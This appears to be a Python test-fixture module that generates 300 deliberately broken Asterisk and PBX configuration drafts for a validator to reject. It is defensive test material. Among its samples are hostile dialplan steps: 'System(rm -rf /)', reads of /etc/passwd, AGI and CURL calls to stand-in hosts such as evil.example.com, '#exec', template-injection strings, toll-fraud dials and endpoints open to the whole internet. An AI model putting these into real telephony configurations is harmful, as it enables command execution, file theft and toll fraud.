"""Three hundred drafts that must never be published: thought of, and made by chance from a seed.

Each is one document changed in one way, so that what is found can only be that.
"""

import random
import re
from collections.abc import Callable, Iterator
from typing import NamedTuple

from appliance.services.workshop.documents import delivered

EXTENSIONS, PJSIP = "dialplan/extensions.conf", "dialplan/pjsip.conf"
CONFBRIDGE, RES_FAX, MENU = "dialplan/confbridge.conf", "dialplan/res_fax.conf", "menu.toml"
LINES, ZH, EN = "lines.toml", "prompts/zh.toml", "prompts/en.toml"
ALL = 300


class BrokenDraft(NamedTuple):
    """A document that must be refused, and what is wrong with it."""

    name: str
    document: str
    text: str


def broken_drafts(seed: int = 7) -> list[BrokenDraft]:
    """Return all of them, the thought-of first; the same seed gives the same ones."""
    thought_of = list(_thought_of())
    chance = random.Random(seed)
    fuzzed = _fuzzed(chance)
    found = {(draft.document, draft.text): draft for draft in thought_of}
    while len(found) < ALL:
        draft = next(fuzzed)
        found.setdefault((draft.document, draft.text), draft)
    return list(found.values())


# --- thought of ------------------------------------------------------------------------

NEW_STEPS = {
    "a shell": "System(rm -rf /)",
    "a shell that may fail": "TrySystem(id)",
    "a shell as a function": "NoOp(${SHELL(id)})",
    "a shell put together": "NoOp(${${FUNDLINE_X}(id)})",
    "a file as a function": "Set(FUNDLINE_X=${FILE(/etc/passwd)})",
    "a file written": "Set(FILE(/tmp/x)=1)",
    "another machine as a function": "NoOp(${CURL(http://192.0.2.1/)})",
    "the environment": "NoOp(${ENV(PATH)})",
    "the database": "Set(DB(a/b)=1)",
    "evaluation": "NoOp(${EVAL(x)})",
    "a command on the manager": "NoOp(${AMI_CLIENT(x)})",
    "a call out": "Dial(PJSIP/13800138000@trunk_main)",
    "a call to two": "Dial(PJSIP/8000&PJSIP/13800138000@trunk_main)",
    "a call to anybody": "Dial(${EXTEN})",
    "a call to what the caller dialled": "Dial(PJSIP/${EXTEN}@trunk_main,30)",
    "a call by another technology": "Dial(IAX2/evil/1)",
    "a local detour": "Dial(Local/s@call_back)",
    "a macro on answer": "Dial(PJSIP/8000,20,M(evil))",
    "a subroutine on answer": "Dial(PJSIP/8000,20,U(evil))",
    "a call to nobody's telephone": "Dial(PJSIP/8999,20)",
    "what a call back dials": "Set(FUNDLINE_DIAL=PJSIP/1@trunk_main)",
    "where the server is": "Set(FUNDLINE_AGI=192.0.2.1)",
    "an originate": "Originate(PJSIP/1@trunk_main,exten,inbound,1000)",
    "a script elsewhere": "AGI(agi://192.0.2.1/main_menu)",
    "a script by name of a host": "AGI(agi://evil.example.com/main_menu)",
    "a script of a file": "AGI(/tmp/evil.sh)",
    "a script with sound": "EAGI(/tmp/evil.sh)",
    "a script that is not there": "AGI(agi://${FUNDLINE_AGI}/no_such_script)",
    "a script that is no conversation": "AGI(agi://${FUNDLINE_AGI}/find_script)",
    "a script variable": "AGI(agi://${FUNDLINE_AGI}/${EXTEN})",
    "a script set that is not there": "Set(FUNDLINE_SCRIPT=mian_menu)",
    "a script set by the caller": "Set(FUNDLINE_SCRIPT=${EXTEN})",
    "an external program": "ExternalIVR(/tmp/evil)",
    "spying": "ChanSpy(all)",
    "a recording": "MixMonitor(/tmp/all.wav)",
    "a recording with a command": "MixMonitor(/tmp/a.wav,,rm -rf /)",
    "a message box of Asterisk": "VoiceMail(1)",
    "reading keys": "Read(PIN,,6)",
    "sending keys": "SendDTMF(1)",
    "music": "MusicOnHold()",
    "a queue": "Queue(sales)",
    "a transfer": "Transfer(PJSIP/1@trunk_main)",
    "a redirect of another": "ChannelRedirect(x,inbound,1000,1)",
    "an application by name": "Exec(System(id))",
    "an application if": "ExecIf($[1]?System(id))",
    "a login to the outside": "DISA(no-password,internal)",
    "an application that does not exist": "Answerr()",
    "an empty application": "()",
    "a sound that is not there": "Playback(${FUNDLINE_SOUNDS}/${CHANNEL(language)}/nothing)",
    "a sound anywhere": "Playback(/etc/passwd)",
    "a language nobody speaks": "Set(CHANNEL(language)=fr)",
    "a bracket too few": "Set(FUNDLINE_X=1",
    "a bracket too many": "NoOp(1))",
    "a brace too few": "NoOp(${EXTEN)",
    "a quote too few": 'NoOp("x)',
    "a place that is not there": "Goto(nowhere,s,1)",
    "an extension that is not there": "Goto(operator,x,1)",
    "a label that is not there": "Goto(again_and_again)",
    "a priority that is not there": "Goto(operator,s,99)",
    "a choice that leads nowhere": 'GotoIf($["${EXTEN}" = "1"]?nowhere,s,1)',
    "a subroutine that is not there": "Gosub(nowhere,s,1)",
    "sound to another machine": "AudioSocket(40325ec2-5efd-4bd3-805f-53576e581d13,192.0.2.1:1)",
    "an endless loop": "Goto(operator,s,1000)",
}  # fmt: skip


def _thought_of() -> Iterator[BrokenDraft]:
    text = delivered(EXTENSIONS)
    for name, step in NEW_STEPS.items():
        yield BrokenDraft(name, EXTENSIONS, _with_step(text, step))
    yield from _of_dialplan(text)
    yield from _of_templates(text)
    yield from _of_pjsip(delivered(PJSIP))
    yield from _of_small_files()
    yield from _of_menus()
    yield from _of_words()


_LINES = "{% for line in place.lines %}\n"


def _with_step(text: str, step: str) -> str:
    """Put a step before the operator is called."""
    return text.replace("[operator]\nexten => s,1,Answer()\n",
                        f"[operator]\nexten => s,1,Answer()\n same => n,{step}\n")  # fmt: skip


def _of_dialplan(text: str) -> Iterator[BrokenDraft]:
    changes = {
        "no text": "",
        "one word": "hello",
        "no contexts": text[: text.index("; Where each number")],
        "half of it": text[: len(text) // 2],
        "no operator": _without(text, "operator"),
        "no end": _without(text, "finished"),
        "no way for callers": text.replace("for place in places", "for place in []"),
        "no way back from conferences": _without(text, "conference_key"),
        "an include of a file": text + "\n#include /etc/passwd\n",
        "an include of a program": text + "\n#exec /bin/id\n",
        "a try of an include": text + "\n#tryinclude x.conf\n",
        "a block comment": text + "\n;-- hidden\n",
        "a switch": text + "\n[far]\nswitch => IAX2/evil/inbound\n",
        "a hint": text.replace("[finished]\n", "[finished]\nexten => 1,hint,PJSIP/1\n"),
        "a dead branch": text + "\n[forgotten]\nexten => s,1,Answer()\n same => n,Hangup(16)\n",
        "a dead end of steps": text + " same => n,NoOp(never)\n",
        "a spinning loop": text.replace("[operator]\n", "[operator]\nexten => 7,1,Goto(7,1)\n")
        + "\n[internal]\n",
        "a loop of two": text + "\n[a_loop]\nexten => s,1,Goto(b_loop,s,1)\n"
        "[b_loop]\nexten => s,1,Goto(a_loop,s,1)\n",
        "a loop that callers reach": text.replace(
            "[internal]\n", "[internal]\nexten => 77,1,Goto(77,1)\n"
        ),
        "a loop with a condition": text.replace(
            "[internal]\n", '[internal]\nexten => 77,1,GotoIf($["${X}" = ""]?1)\n'
            " same => n,Hangup(16)\n"
        ),
        "a context twice": text + "\n[finished]\nexten => s,1,Hangup(16)\n",
        "a priority twice": text.replace(" same => n,Goto(server_away,s,1)", " same => 3,NoOp()"),
        "a label twice": text.replace(" same => n(away),", " same => n(tick),"),
        "an include of nothing": text.replace("include => inbound", "include => outbound"),
        "callers into the house": text.replace(_LINES, f"include => call_back\n{_LINES}"),
        "all numbers at once": text.replace(_LINES, f"exten => _.,1,Answer()\n{_LINES}"),
        "another server": text.replace("127.0.0.1:{{ agi_port }}", "192.0.2.1:4573"),
        "another global": text.replace("[globals]\n", "[globals]\nEVIL = 1\n"),
        "programs in files": text.replace("static = yes", "static = yes\nexecincludes = yes"),
        "no static": text.replace("static = yes\n", ""),
        "a secret told": text.replace(
            "[operator]\n", "[operator]\nexten => 9,1,NoOp({{ trial_password }})\n"
        ),
        "a same without exten": "[operator]\n same => n,Answer()\n" + text,
        "a name with signs": text + "\n[a b;c]\nexten => s,1,Answer()\n",
        "an equals sign alone": text + "\n=\n",
        "the script left out": text.replace("SCRIPT={{ line.script }}", "SCRIPT="),
    }  # fmt: skip
    for name, changed in changes.items():
        yield BrokenDraft(name, EXTENSIONS, changed)


def _of_templates(text: str) -> Iterator[BrokenDraft]:
    endings = {
        "an open loop": "{% for x in lines %}",
        "an open value": "{{ operator",
        "an unknown tag": "{% shell %}",
        "an unknown filter": "{{ operator|system }}",
        "an unknown value": "{{ no_such_value }}",
        "a value of a value": "{{ operator.__class__.__mro__ }}",
        "the way to everything": "{{ ''.__class__.__base__.__subclasses__() }}",
        "a division": "{{ 1 / 0 }}",
        "a list as a value": "{{ [1, 2] }}",
        "a clash left in": "<<<<<<< mine\n=======\n>>>>>>> theirs",
        "an import": "{% import 'pjsip.conf' as p %}{{ p.nothing() }}",
        "an include of a template that is not there": "{% include 'nothing.conf' %}",
        "a loop without an end": "{% for a in range(99999) %}{% for b in range(99999) %}"
        "{% for c in range(99999) %}{% endfor %}{% endfor %}{% endfor %}",
        "more than a range": "{% for a in range(999999999) %}{% endfor %}",
        "a line end in a value": "{{ 'a\\nb' }}",
        "a zero": "\0",
        "a carriage return": "x\ry",
    }
    for name, ending in endings.items():
        yield BrokenDraft(name, EXTENSIONS, f"{text}\n{ending}\n")


def _of_pjsip(text: str) -> Iterator[BrokenDraft]:
    line = "[line](!)\n"
    context = "context = {{ extension.context }}"
    any_address = "\n[any]\ntype = identify\nendpoint = trial\nmatch ="
    house = "\n[8100](line)\ncontext = internal\n"
    changes = {
        "pjsip: nothing": "",
        "pjsip: no system": _without(text, "system"),
        "pjsip: no way in": _without(text, "udp"),
        "pjsip: no template": text.replace("[line](!)", "[lien](!)"),
        "pjsip: transfers": text.replace("allow_transfer = no", "allow_transfer = yes"),
        "pjsip: trusts": text.replace("trust_id_inbound = no", "trust_id_inbound = yes"),
        "pjsip: media past us": text.replace("direct_media = no", "direct_media = yes"),
        "pjsip: a variable": text.replace(line, line + "set_var = FUNDLINE_DIAL=x\n"),
        "pjsip: a context inside": text.replace(context, "context = call_back"),
        "pjsip: a context nowhere": text.replace(context, "context = intern"),
        "pjsip: no context": text.replace(f"{context}\n", ""),
        "pjsip: messages": text.replace(line, line + "message_context = call_back\n"),
        "pjsip: an option that is none": text.replace(line, line + "alow = all\n"),
        "pjsip: a codec that is none": text.replace("allow = alaw", "allow = mp3"),
        "pjsip: a value that is none": text.replace("timers = yes", "timers = maybe"),
        "pjsip: another port": text.replace("{{ bind }}:{{ sip_port }}", "0.0.0.0:5060"),
        "pjsip: anybody": text + "\n[anonymous](line)\ncontext = inbound\n",
        "pjsip: an open telephone": f"{text}{house}aors = 8000\n",
        "pjsip: the whole world": f"{text}{any_address} 0.0.0.0/0\n",
        "pjsip: half the world": f"{text}{any_address} 0.0.0.0/1\n",
        "pjsip: an auth of nobody": f"{text}{house}auth = 8100\n",
        "pjsip: an aor of nobody": f"{text}{house}auth = 8000\naors = 9\n",
        "pjsip: a registration": f"{text}\n[out]\ntype = registration\nserver_uri = sip:x\n",
        "pjsip: a section without a type": text + "\n[x]\nallow = alaw\n",
        "pjsip: a type that is none": text + "\n[x]\ntype = endpiont\n",
        "pjsip: a template that is none": text + "\n[8100](lien)\ncontext = internal\n",
        "pjsip: a section twice": f"{text}\n[udp]\ntype = transport\nbind = 0.0.0.0\n",
        "pjsip: a bracket too few": text + "\n[x\ntype = aor\n",
        "pjsip: no sections": "type = endpoint\n",
        "pjsip: a short password": text.replace("{{ trial_password }}", "1234"),
        "pjsip: a password told": text.replace("callerid = ", "callerid = {{ trial_password }}"),
        "pjsip: a log of everything": text.replace("[global]\n", "[global]\ndebug = yes\n"),
    }  # fmt: skip
    for name, changed in changes.items():
        yield BrokenDraft(name, PJSIP, changed)


def _of_small_files() -> Iterator[BrokenDraft]:
    rooms, fax = delivered(CONFBRIDGE), delivered(RES_FAX)
    for name, document, changed in (
        ("rooms: nothing", CONFBRIDGE, ""),
        ("rooms: a command", CONFBRIDGE, rooms + "\nrecord_command = id\n"),
        ("rooms: a file", CONFBRIDGE, rooms + "\nrecord_file = /tmp/x\n"),
        ("rooms: announced", CONFBRIDGE, rooms.replace("quiet = yes", "quiet = no", 1)),
        ("rooms: a key elsewhere", CONFBRIDGE, rooms.replace("conference_key,", "call_back,")),
        ("rooms: a kick", CONFBRIDGE, rooms + "\n5 = admin_kick_last\n"),
        ("rooms: no keys", CONFBRIDGE, _without(rooms, "keys")),
        ("rooms: a type that is none", CONFBRIDGE, rooms.replace("type = bridge", "type = brigde")),
        ("rooms: too wide", CONFBRIDGE, rooms.replace("8000", "192000")),
        ("rooms: not closed", CONFBRIDGE, rooms.replace("[keys]", "[keys")),
        ("fax: nothing", RES_FAX, ""),
        ("fax: too fast", RES_FAX, fax.replace("maxrate = 14400", "maxrate = 33600")),
        ("fax: least above most", RES_FAX, fax.replace("maxrate = 14400", "maxrate = 4800")
         .replace("minrate = 2400", "minrate = 9600")),
        ("fax: no modem", RES_FAX, fax.replace("modems = v17,v27,v29", "modems = v99")),
        ("fax: an option that is none", RES_FAX, fax + "\nspeed = fast\n"),
        ("fax: a section more", RES_FAX, fax + "\n[more]\necm = yes\n"),
    ):  # fmt: skip
        yield BrokenDraft(name, document, changed)


def _choice(key: str, target: str, say: str = 'say = "hotline.nav"\n') -> str:
    return f'[[choice]]\nkey = "{key}"\n{say}{target}\n'


def _times(ways: str) -> str:
    return _choice("1", f"times = {{ {ways} }}")


def _of_menus() -> Iterator[BrokenDraft]:
    item = 'item = "fund_query.quotes"'
    hours, closed = 'from = "09:00", to = "17:00"', 'closed = { mailbox = "8000" }'
    both_ways = f"{hours}, open = {{ operator = true }}, {closed}"
    sub = '[menus.a]\n[[menus.a.choice]]\nkey = "1"\nsay = "hotline.nav"\n'
    texts = {
        "menu: not TOML": "[[choice",
        "menu: a word": "hello",
        "menu: unknown name": 'colour = "red"\n',
        "menu: a key twice": _choice("1", item) + _choice("1", "operator = true"),
        "menu: key 0": _choice("0", "operator = true"),
        "menu: key of the language": _choice("9", "operator = true"),
        "menu: two digits": _choice("12", "operator = true"),
        "menu: a number as key": "[[choice]]\nkey = 1\noperator = true\n",
        "menu: no key": "[[choice]]\noperator = true\n",
        "menu: no target": _choice("1", ""),
        "menu: two targets": _choice("1", 'operator = true\nmailbox = "8000"'),
        "menu: not said": _choice("1", "operator = true", say=""),
        "menu: said with no sentence": _choice("1", "operator = true", 'say = "hotline.nothing"\n'),
        "menu: said without its key": _choice("1", "operator = true", 'say = "errors.help"\n'),
        "menu: said with other slots": _choice(
            "1", "operator = true", 'say = "fund_query.latest"\n'
        ),
        "menu: no item": _choice("1", 'item = "fund_query.nothing"'),
        "menu: no plugin": _choice("1", 'item = "nothing.nav"'),
        "menu: no script": _choice("1", 'script = "main_menu"'),
        "menu: a script of a path": _choice("1", 'script = "../evil"'),
        "menu: no mailbox": _choice("1", 'mailbox = "8555"'),
        "menu: a mailbox of letters": _choice("1", 'mailbox = "abc"'),
        "menu: no telephone": _choice("1", 'number = "8555"'),
        "menu: a telephone outside": _choice("1", 'number = "13800138000"'),
        "menu: no menu": _choice("1", 'menu = "nowhere"'),
        "menu: no sentence": _choice("1", 'sentence = "hotline.nothing"'),
        "menu: a sentence with slots": _choice("1", 'sentence = "fund_query.latest"'),
        "menu: operator of false": _choice("1", "operator = false"),
        "menu: back of the main menu": _choice("1", "back = true"),
        "menu: unreached": sub + "operator = true\n",
        "menu: empty": _choice("1", 'menu = "a"') + "[menus.a]\n",
        "menu: into itself": _choice("1", 'menu = "a"') + sub + 'menu = "a"\n',
        "menu: only back": _choice("1", 'menu = "a"') + sub + "back = true\n",
        "menu: round and round": _choice("1", 'menu = "a"') + sub + 'menu = "b"\n'
        '[menus.b]\n[[menus.b.choice]]\nkey = "1"\nsay = "hotline.nav"\nmenu = "a"\n',
        "menu: a question that is none": _choice("1", 'menu = "a"')
        + sub.replace("[menus.a]\n", '[menus.a]\nquestion = "hotline.nothing"\n')
        + "operator = true\n",
        "menu: a question with slots": 'question = "fund_query.latest"\n' + _choice("1", item),
        "menu: times to the same": _times(both_ways).replace('mailbox = "8000"', "operator = true"),
        "menu: times that are always": _times(f"open = {{ operator = true }}, {closed}"),
        "menu: times without a way": _times(f"{hours}, open = {{ operator = true }}"),
        "menu: an hour that is none": _times(f"{both_ways}").replace("09:00", "25:00"),
        "menu: days that are none": _times(f'days = "someday", {both_ways}'),
        "menu: times to no mailbox": _times(both_ways).replace("8000", "8555"),
        "menu: hidden and offered": 'hidden = ["fund_query.quotes"]\n' + _choice("1", item),
        "menu: hides what is not there": 'hidden = ["fund_query.nothing"]\n',
        "menu: hidden of a word": 'hidden = "fund_query.quotes"\n',
        "menu: an order that is none": 'order = "random"\n' + _choice("1", item),
        "menu: a name of signs": sub.replace("menus.a", 'menus."A B"') + "operator = true\n",
        "menu: a key of a plugin taken": _choice("2", "operator = true"),
    }  # fmt: skip
    for name, text in texts.items():
        yield BrokenDraft(name, MENU, text)


def _of_words() -> Iterator[BrokenDraft]:
    texts = {
        "words: not TOML": (ZH, "[hotline"),
        "words: no such sentence": (ZH, '[hotline]\nnothing = "您好。"\n'),
        "words: a slot too few": (ZH, '[hotline]\nnav = "查询净值。"\n'),
        "words: a slot too many": (ZH, '[errors]\nhelp = "我们请{who:text}来帮您。"\n'),
        "words: a slot of no kind": (ZH, '[hotline]\nnav = "查询净值，请按{key:nothing}。"\n'),
        "words: nothing said": (ZH, '[errors]\nhelp = ""\n'),
        "words: a number": (ZH, "[errors]\nhelp = 5\n"),
        "words: only in Chinese": (ZH, '[own]\nholiday = "今天放假。"\n'),
        "words: only in English": (EN, '[own]\nholiday = "We are on holiday."\n'),
        "lines: not TOML": (LINES, "[[trunk"),
        "lines: unknown name": (LINES, "colour = 1\n"),
    }
    for name, (document, text) in texts.items():
        yield BrokenDraft(name, document, text)


def _without(text: str, section: str) -> str:
    """Return a file without one of its sections."""
    return re.sub(rf"^\[{re.escape(section)}\].*?(?=^\[|\Z)", "", text, flags=re.M | re.S)


# --- by chance -------------------------------------------------------------------------

NONSENSE = ("§§§", "exten", "= = =", "]][[", "same =>", "[", "(!)", "exten => s", "%%%", "<<<")
TARGET = re.compile(r"(?<=Goto\()[\w]+(?=,)")
APPLICATION = re.compile(r"(?<=,)(Answer|Set|Goto|GotoIf|AGI|Playback|Wait|Hangup)(?=\()")


def _fuzzed(chance: random.Random) -> Iterator[BrokenDraft]:
    """Yield documents broken by chance, each in a way that cannot be right."""
    number = 0
    while True:
        document = chance.choice((EXTENSIONS, EXTENSIONS, EXTENSIONS, PJSIP, CONFBRIDGE, MENU))
        text = WHOLE_MENU if document == MENU else delivered(document)
        breaking = chance.choice(MENU_BREAKS if document == MENU else BREAKS[document])
        changed = breaking(text, chance)
        if changed != text:
            number += 1
            yield BrokenDraft(f"{number}: {breaking.__name__} in {document}", document, changed)


def nonsense_in_a_line(text: str, chance: random.Random) -> str:
    lines = text.splitlines(keepends=True)
    lines.insert(chance.randrange(len(lines)), f"{chance.choice(NONSENSE)}\n")
    return "".join(lines)


def a_bracket_lost(text: str, chance: random.Random) -> str:
    places = [
        m.start() for m in re.finditer(r"[()](?=[^\n]*$)", text, re.M)
        if re.match(r"(exten| same) =>", text[text.rfind("\n", 0, m.start()) + 1 :])
    ]  # fmt: skip
    place = chance.choice(places)
    return text[:place] + text[place + 1 :]


def a_target_misspelt(text: str, chance: random.Random) -> str:
    found = chance.choice(list(TARGET.finditer(text)))
    return f"{text[: found.start()]}{found[0]}x{text[found.end() :]}"


def an_application_misspelt(text: str, chance: random.Random) -> str:
    found = chance.choice(list(APPLICATION.finditer(text)))
    return f"{text[: found.start()]}{found[0]}x{text[found.end() :]}"


def a_section_lost(text: str, chance: random.Random) -> str:
    return _without(text, chance.choice(re.findall(r"^\[(\w+)\]$", text, re.M)))


def a_section_twice(text: str, chance: random.Random) -> str:
    name = chance.choice([n for n in re.findall(r"^\[(\w+)\]$", text, re.M) if n != "globals"])
    section = re.search(rf"^\[{name}\].*?(?=^\[|\Z)", text, re.M | re.S)
    assert section is not None
    if name == "general":
        return text + "\n[general]\nevil = yes\n"
    return f"{text}\n{section[0]}"


def a_tag_lost(text: str, chance: random.Random) -> str:
    tags = list(re.finditer(r"\{% (?:endfor|endif|for [^%]*|if [^%]*) %\}", text))
    found = chance.choice(tags) if tags else None
    return text[: found.start()] + text[found.end() :] if found else text


def a_value_misspelt(text: str, chance: random.Random) -> str:
    # an address of IPv6 is written only where the box listens at one
    values = list(re.finditer(r"(?<!\[)\{\{ (\w+)", text))
    found = chance.choice(values) if values else None
    return f"{text[: found.end()]}_{text[found.end() :]}" if found else text


def a_step_added(text: str, chance: random.Random) -> str:
    lines = text.splitlines(keepends=True)
    places = [n for n, line in enumerate(lines) if line.startswith(" same => n")]
    step = chance.choice(list(NEW_STEPS.values()))
    lines.insert(chance.choice(places), f" same => n,{step}\n")
    return "".join(lines)


def an_option_misspelt(text: str, chance: random.Random) -> str:
    options = list(re.finditer(r"^(\w+) = (?!.*\{)", text, re.M))
    found = chance.choice(options)
    return f"{text[: found.end(1)]}x{text[found.end(1) :]}"


WHOLE_MENU = """order = "listed"
hidden = ["voice_mail.complaint"]

[[choice]]
key = "1"
item = "fund_query.quotes"

[[choice]]
key = "2"
item = "fund_query.account"

[[choice]]
key = "6"
say = "hotline.company"
menu = "more"

[menus.more]

[[menus.more.choice]]
key = "1"
say = "hotline.complaint"
mailbox = "8000"

[[menus.more.choice]]
key = "2"
say = "hotline.company"
number = "8000"
"""


def a_key_twice(text: str, chance: random.Random) -> str:
    return text.replace('key = "2"', 'key = "1"')


def a_name_misspelt(text: str, chance: random.Random) -> str:
    found = chance.choice(list(re.finditer(r'^(item|menu|say) = "([\w.]+)', text, re.M)))
    return f"{text[: found.end()]}{chance.choice('xyz')}{text[found.end() :]}"


def a_word_misspelt(text: str, chance: random.Random) -> str:
    found = chance.choice(list(re.finditer(r"^(\w+) =", text, re.M)))
    return f"{text[: found.end(1)]}{chance.choice('xyz')}{text[found.end(1) :]}"


def a_sign_lost(text: str, chance: random.Random) -> str:
    found = chance.choice(list(re.finditer(r'["=\]]', text)))
    return text[: found.start()] + text[found.end() :]


def a_number_of_nobody(text: str, chance: random.Random) -> str:
    return text.replace('"8000"', f'"{chance.randrange(8100, 8999)}"')


Break = Callable[[str, random.Random], str]
BREAKS: dict[str, tuple[Break, ...]] = {
    EXTENSIONS: (
        nonsense_in_a_line, a_bracket_lost, a_target_misspelt, an_application_misspelt,
        a_section_lost, a_section_twice, a_tag_lost, a_value_misspelt, a_step_added,
    ),
    PJSIP: (
        nonsense_in_a_line, a_section_lost, a_section_twice, a_tag_lost, a_value_misspelt,
        an_option_misspelt,
    ),
    CONFBRIDGE: (
        nonsense_in_a_line, a_section_lost, a_section_twice, a_tag_lost, an_option_misspelt,
    ),
}  # fmt: skip
MENU_BREAKS: tuple[Break, ...] = (
    a_key_twice, a_name_misspelt, a_word_misspelt, a_sign_lost, a_number_of_nobody,
)  # fmt: skip
